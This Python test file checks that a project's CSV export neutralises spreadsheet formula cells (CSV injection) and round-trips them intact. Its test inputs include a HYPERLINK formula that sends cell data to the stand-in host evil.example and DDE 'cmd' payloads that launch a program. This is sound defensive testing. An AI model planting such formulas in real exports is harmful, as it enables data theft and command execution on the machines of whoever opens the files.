"""CSV exports never hand a spreadsheet a formula (CSV injection), and read back whole."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from masteryai_lti.core.spreadsheet_cells import FORMULA_STARTS, neutralise, restore
from masteryai_lti.mastery.graph import Concept, ConceptGraph

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_written_as_text(attack):
    assert neutralise(attack) == "'" + attack
    assert restore(neutralise(attack)) == attack


@given(st.text())
def test_every_cell_reads_back_as_written(text):
    written = neutralise(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == text


@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_concept_graph_csv_export_has_no_formula_cell_and_round_trips(attack):
    graph = ConceptGraph()
    graph.add_concept(Concept("add", attack, attack))
    exported = graph.to_csv()

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    back = ConceptGraph.from_csv(exported)
    assert back.concepts["add"].name == attack and back.concepts["add"].description == attack
